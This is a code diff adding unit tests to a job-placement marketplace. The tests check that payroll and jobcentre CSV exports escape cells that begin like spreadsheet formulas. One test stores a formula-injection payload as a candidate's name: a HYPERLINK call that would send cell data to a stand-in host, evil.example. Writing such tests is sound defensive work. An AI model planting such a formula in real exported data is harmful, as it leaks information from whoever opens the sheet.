@@ -14,7 +14,7 @@ from sqlalchemy import func, select
 from marketplace import hours, privacy
 from marketplace.extensions import db
 from marketplace.ladder_terms import versions_of
-from marketplace.models import ConsentMethod, HourKind, IdentityView, Role
+from marketplace.models import CandidateIdentity, ConsentMethod, HourKind, IdentityView, Role
 from tests.html_forms import error_ids
 from tests.unit.test_hour_records import MONDAY, confirm, paid_placement
 from tests.unit.test_ladder_steps import ladder_job
@@ -148,3 +148,34 @@ def test_the_jobcentre_export_has_case_reference_and_cvr(
         )
         == 1
     )
+
+
+# -- Cells a spreadsheet would run as formulas ---------------------------------------------
+
+
+def test_a_name_typed_as_a_formula_reaches_payroll_as_text(
+    client, login, employer, consultant, placement
+):
+    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Klik")'
+    db.session.get(CandidateIdentity, placement.candidate_id).full_name = formula
+    privacy.record_consent(placement.proposal, consultant, ConsentMethod.IN_PERSON)
+    db.session.commit()
+    login(employer)
+    rows = rows_of(company_export(client))
+    assert {r[1] for r in rows[1:]} == {"'" + formula}
+    assert [r[3] for r in rows[1:]] == ["3", "3"]  # the hours are still numbers
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_case_reference_that_begins_a_formula_reaches_the_jobcentre_as_text(
+    client, login, consultant, placement, start
+):
+    reference = f"{start}45-2026"
+    db.session.get(CandidateIdentity, placement.candidate_id).case_reference = reference
+    db.session.commit()
+    login(consultant)
+    rows = rows_of(
+        client.get(f"/jobcentre/hours/export?start={START.isoformat()}&end={END.isoformat()}")
+    )
+    assert [r[0] for r in rows[1:]] == ["'" + reference] * 2
+    assert [r[3] for r in rows[1:]] == ["3", "3"]
